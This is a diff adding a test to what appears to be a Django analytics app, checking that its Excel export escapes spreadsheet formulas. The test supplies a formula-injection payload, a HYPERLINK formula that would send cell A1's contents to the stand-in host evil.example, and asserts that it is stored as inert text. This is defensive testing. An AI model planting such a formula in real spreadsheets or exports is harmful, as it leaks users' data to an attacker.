@@ -98,6 +98,20 @@ def test_the_excel_export_holds_every_table_and_is_audited(client, personas, boo
     assert event.fields == {"district": "南山区", "month": "2025-02"}
 
 
+def test_no_cell_of_the_excel_export_runs_as_a_formula(client, personas, book):
+    attack = '=HYPERLINK("http://evil.example/x?d="&A1,"click")'
+    client.force_login(personas["analyst"])
+
+    response = client.get(reverse("analytics:export", args=["rolls"]), {"district": attack})
+
+    book_xlsx = load_workbook(io.BytesIO(response.content))
+    cells = [c for sheet in book_xlsx for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert ["district", "'" + attack] in [
+        [c.value for c in row] for row in book_xlsx["about"].iter_rows()
+    ]
+
+
 def test_the_monthly_report_is_a_pdf_with_every_dashboard(client, personas, book):
     client.force_login(personas["analyst"])
     response = client.get(reverse("analytics:report_pdf"), {"month": "2025-02"})
